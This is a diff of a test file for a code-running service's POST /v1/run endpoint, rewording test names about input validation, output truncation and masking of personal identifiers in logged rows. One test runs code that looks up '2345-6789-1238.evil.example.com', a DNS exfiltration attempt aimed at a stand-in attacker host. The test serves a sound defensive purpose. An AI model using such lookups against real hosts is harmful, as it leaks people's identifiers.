@@ -55,7 +55,7 @@ describe('The input of POST /v1/run', () => {
     ).toEqual(Object.fromEntries(names.map((name) => [name, name])));
   });
 
-  it('the API rejects two files at one place and invalid base64', async () => {
+  it('the API rejects two files with one path and invalid base64', async () => {
     expect(await status({ code: '', files: [file('a'), file('a')] })).toBe(422);
     expect(await status({ code: '', files: [file('a'), file('a/b')] })).toBe(422);
     for (const content_b64 of ['a', 'YQ', 'YQ=', 'Y Q==', 'YQ==\n', '-_8=', 'YQ==YQ==']) {
@@ -107,12 +107,12 @@ describe('The output of POST /v1/run', () => {
     const outcome = await runCode(service, { code });
     expect(outcome.stdout).toBe(stdout);
     const [, ran] = await codeRows(service, outcome.ledger_ref);
-    // A row cannot hold NUL; the rest is the beginning of the output.
+    // A row cannot hold NUL; otherwise it holds the start of the output.
     expect(ran!.detail['stdout']).toBe([...stdout.replaceAll('\0', '\uFFFD')].slice(0, 300).join(''));
     expect(await service.verify()).toMatchObject({ ok: true });
   });
 
-  it('a row is cut between characters and never inside one', async () => {
+  it('a row is never truncated in the middle of a character', async () => {
     for (const lead of [297, 298, 299, 300]) {
       const { ledger_ref } = await runCode(service, { code: `print('a' * ${lead} + '\u{1F600}' * 5)` });
       const [, ran] = await codeRows(service, ledger_ref);
@@ -123,7 +123,7 @@ describe('The output of POST /v1/run', () => {
     }
   });
 
-  it('an identifier across the cut shows none of its digits in code or output', async () => {
+  it('no digit of an identifier that spans the truncation point is shown in code or output', async () => {
     const shapes = ['2345 6789 1238', '234567891238', 'ABCPK1234F', '4111 1111 1111 1111', '+91 98765 43210'];
     for (const identifier of shapes) {
       for (const lead of [285, 290, 295, 299]) {
@@ -139,7 +139,7 @@ describe('The output of POST /v1/run', () => {
     }
   });
 
-  it('an identifier far beyond what a row shows is still counted', async () => {
+  it('an identifier far beyond the part that a row shows is still counted', async () => {
     const code =
       "print('z' * 100_000)\nprint('2345 6789 1238')\nimport sys\nprint('ABCPK1234F', file=sys.stderr)";
     const { ledger_ref } = await runCode(service, { code });
@@ -148,7 +148,7 @@ describe('The output of POST /v1/run', () => {
     expect(JSON.stringify(ran)).not.toMatch(/6789|1234F/);
   });
 
-  it('a host name that carries an identifier is masked in the row of the attempt', async () => {
+  it('a host name that contains an identifier is masked in the attempt’s row', async () => {
     const code =
       "import socket\ntry: socket.getaddrinfo('2345-6789-1238.evil.example.com', 443)\nexcept OSError: print('no')";
     const outcome = await runCode(service, { code });
